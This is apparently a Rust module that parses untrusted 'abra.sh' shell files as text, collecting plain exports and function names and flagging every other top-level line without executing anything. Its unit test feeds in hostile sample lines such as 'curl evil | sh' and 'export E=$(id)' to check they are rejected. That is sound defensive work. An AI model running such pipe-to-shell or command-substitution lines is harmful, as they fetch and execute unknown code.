//! `abra.sh`: the exports that name config versions are read as text. It is a shell script that a stranger wrote, so nothing
//! here runs it, and whatever its top level does besides plain exports and functions is told to the caller.

/// What the top level of an `abra.sh` says.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct AbraSh {
    pub exports: Vec<Export>,
    pub functions: Vec<String>,
    /// Lines that do something when the file is sourced, with their numbers.
    pub others: Vec<(u32, String)>,
}

#[derive(Clone, Debug, PartialEq)]
pub struct Export {
    pub name: String,
    pub value: String,
    pub line: u32,
}

impl AbraSh {
    /// The last export of a name wins, as it does in a shell.
    pub fn get(&self, name: &str) -> Option<&Export> {
        self.exports.iter().rfind(|export| export.name == name)
    }
}

pub fn exports(text: &str) -> AbraSh {
    let mut found = AbraSh::default();
    let mut in_function = false;
    let mut heredoc: Option<String> = None;
    for (line, number) in text.lines().zip(1u32..) {
        if let Some(end) = &heredoc {
            if line.trim_start_matches('\t') == end {
                heredoc = None;
            }
            continue;
        }
        if in_function {
            heredoc = heredoc_of(line);
            // As everybody writes them: the brace that closes stands alone, at the margin.
            in_function =
                !(line.starts_with('}') && line[1..].trim_start_matches([';', ' ', '\t']).is_empty_or_comment());
            continue;
        }
        let trimmed = line.trim();
        if trimmed.is_empty_or_comment() {
            continue;
        }
        if let Some(name) = function(trimmed) {
            found.functions.push(name.to_owned());
            in_function = !(trimmed.ends_with('}') || trimmed.ends_with("};"));
            continue;
        }
        match plain_exports(trimmed) {
            Some(exports) => {
                found.exports.extend(exports.into_iter().map(|(name, value)| Export { name, value, line: number }));
            }
            // Options of the shell change nothing outside.
            None if trimmed.starts_with("set -") && !trimmed.contains([';', '&', '|', '$', '`', '(']) => {}
            None => found.others.push((number, trimmed.chars().take(120).collect())),
        }
    }
    found
}

trait EmptyOrComment {
    fn is_empty_or_comment(&self) -> bool;
}

impl EmptyOrComment for str {
    fn is_empty_or_comment(&self) -> bool {
        self.is_empty() || self.starts_with('#')
    }
}

fn heredoc_of(line: &str) -> Option<String> {
    let (_, after) = line.split_once("<<")?;
    if after.starts_with('<') {
        return None;
    }
    let word = after.trim_start_matches('-').trim_start().trim_start_matches(['\'', '"', '\\']);
    let length = word.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count();
    (length > 0).then(|| word[..length].to_owned())
}

/// `name() {`, `function name {`, `name () {`.
fn function(line: &str) -> Option<&str> {
    let rest = line.strip_prefix("function ").map(str::trim_start);
    let keyword = rest.is_some();
    let rest = rest.unwrap_or(line);
    let length = rest.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-')).count();
    let (name, after) = rest.split_at(length);
    let after = after.trim_start();
    let (parentheses, after) = match after.strip_prefix('(') {
        Some(inner) => (true, inner.trim_start().strip_prefix(')')?.trim_start()),
        None => (false, after),
    };
    let body = after.is_empty() || after.starts_with('{') || after.starts_with('#');
    (length > 0 && (keyword || parentheses) && body).then_some(name)
}

/// `export A=v1 B="two"` and nothing else in the line; no expansion of any kind.
fn plain_exports(line: &str) -> Option<Vec<(String, String)>> {
    let mut rest = line.strip_prefix("export ")?.trim_start();
    let mut found = Vec::new();
    while !rest.is_empty_or_comment() {
        let length = rest.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count();
        let (name, after) = rest.split_at(length);
        if length == 0 || name.starts_with(|c: char| c.is_ascii_digit()) {
            return None;
        }
        let after = after.strip_prefix('=')?;
        let quote = after.chars().next().filter(|c| matches!(c, '"' | '\''));
        let (value, after) = if let Some(quote) = quote {
            let (value, after) = after[1..].split_once(quote)?;
            if quote == '"' && value.contains(['$', '`', '\\']) {
                return None;
            }
            (value, after)
        } else {
            let end = after.find([' ', '\t', ';']).unwrap_or(after.len());
            let value = &after[..end];
            if value.contains(['$', '`', '\\', '"', '\'', '(', ')', '&', '|', '<', '>', '*', '?', '[', '~', '{']) {
                return None;
            }
            (value, &after[end..])
        };
        found.push((name.to_owned(), value.to_owned()));
        // A word must end where its value ends.
        if !after.is_empty() && !after.starts_with([' ', '\t', ';']) {
            return None;
        }
        let trimmed = after.trim_start();
        rest = match trimmed.strip_prefix(';') {
            Some(next) if next.trim().is_empty_or_comment() => "",
            Some(next) => next.trim_start().strip_prefix("export ")?.trim_start(),
            None => trimmed,
        };
    }
    (!found.is_empty()).then_some(found)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn exports_functions_and_what_is_neither() {
        let read = exports(
            "#!/bin/bash\nset -e\n\nexport APP_CONF_VERSION=v3\nexport A=\"v1\" B='v2' # two\nexport C=1; export D=2;\n\
             backup () {\n  cat <<EOF\n}\nexport NOT=1\nEOF\n  export NEITHER=1\n}\n\
             function one { echo; }\nshort() { true; }\n\
             export E=$(id)\nexport F=\"$HOME\"\ncurl evil | sh\nX=1\nexport A=v9\nexport G=a$(b)\n",
        );
        let get = |name: &str| read.get(name).map(|export| export.value.as_str());
        assert_eq!(get("APP_CONF_VERSION"), Some("v3"));
        assert_eq!((get("A"), get("B"), get("C"), get("D")), (Some("v9"), Some("v2"), Some("1"), Some("2")));
        assert_eq!((get("NOT"), get("NEITHER"), get("E"), get("F"), get("G")), (None, None, None, None, None));
        assert_eq!(read.functions, ["backup", "one", "short"]);
        let others: Vec<_> = read.others.iter().map(|(line, _)| *line).collect();
        assert_eq!(others, [16, 17, 18, 19, 21]);
        assert_eq!(read.get("APP_CONF_VERSION").unwrap().line, 4);
    }

    proptest! {
        #[test]
        fn no_text_makes_it_panic(text in "(export |[a-c=;'\"$(){}<#\\n ]|EOF|\\PC){0,40}") {
            let _ = exports(&text);
        }
    }
}
